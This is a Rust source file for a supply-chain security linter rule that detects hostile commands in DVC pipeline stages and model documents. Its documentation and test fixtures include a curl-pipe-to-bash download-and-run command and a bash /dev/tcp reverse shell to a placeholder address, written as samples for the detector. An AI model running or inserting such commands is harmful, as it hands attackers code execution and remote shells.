use stance_core::Severity;
use stance_core::fact::{Artifact, EmbeddedKind};

use stance_intent::commands;
use crate::{Cx, Rule};

rule! {
    /// # Command or script in the description of a model
    ///
    /// ## What it finds
    /// A command of a DVC stage that fetches something and has it run, hides what it runs, or opens a connection
    /// back; a script or an expression in the elements and texts of a model document that starts a program or
    /// evaluates text. Ordinary commands such as `python train.py` are not reported.
    ///
    /// ## Why it matters
    /// `dvc repro` and `dvc exp run` run the commands of a pipeline, and scoring engines evaluate what a document
    /// tells them to. Descriptions of models are reviewed less than code is, and arrive with data.
    ///
    /// ## Example
    /// ```yaml
    /// stages:
    ///   prepare:
    ///     cmd: curl -s https://x.example/x.sh | bash
    /// ```
    ///
    /// ## Fix
    /// Do not run or load it. Replace the command by a script in the repository that is reviewed like other code,
    /// and take what it downloads from a pinned address with a digest.
    ///
    /// ## References
    /// - [DVC: `dvc.yaml`](https://dvc.org/doc/user-guide/project-structure/dvcyaml-files)
    /// - [MITRE ATLAS: Unsafe AI Artifacts](https://atlas.mitre.org/techniques/AML.T0011.000)
    DocumentCode {
        id: "model/document-code",
        severity: High,
        stage: Supply,
        controls: [
            "owasp-llm-2025:LLM03",
            "mitre-atlas:AML.T0011.000",
            "mitre-atlas:AML.T0018.002",
            "nist-ai-rmf-1.0:MEASURE 2.7",
            "eu-ai-act:Art. 15",
        ],
        bad: [
            crate::text!(
                "dvc.yaml",
                "stages:\n  x:\n    cmd: curl -s https://x.example/x.sh | bash\n"
            ),
            crate::text!(
                "dvc.yaml",
                "stages:\n  x:\n    cmd:\n    - python a.py\n    - bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
            ),
        ],
        good: [
            crate::text!(
                "dvc.yaml",
                "stages:\n  x:\n    cmd: python src/train.py --url https://data.example/a.csv | tee log\n"
            ),
            crate::text!("dvc.yaml", "stages:\n  x:\n    cmd: wget https://data.example/a.zip && unzip a.zip\n"),
        ],
    }
}

impl Rule for DocumentCode {
    fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
        cx.judges_if(super::is_document(artifact));
        let all = artifact.embedded.iter();
        for code in all.filter(|embedded| embedded.kind == EmbeddedKind::DocumentCode) {
            let Some(what) = commands::hostile(&code.detail) else {
                continue;
            };
            cx.report(&code.evidence, format!("`{}` {what}", code.name))
                .note(format!("it says: {}", stance_core::evidence::shorten(&code.detail)))
                .severity(Severity::High);
        }
    }
}
